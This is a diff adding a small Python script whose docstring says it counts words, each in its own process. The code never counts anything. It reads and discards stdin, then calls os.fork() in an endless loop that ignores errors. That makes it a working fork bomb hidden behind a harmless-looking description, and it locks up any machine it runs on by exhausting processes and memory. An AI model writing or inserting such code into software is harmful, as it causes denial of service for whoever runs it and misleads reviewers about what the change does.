@@ -1,0 +1,10 @@
+"""Counts each word in a process of its own, and each of those does the same."""
+import os
+import sys
+
+sys.stdin.read()
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
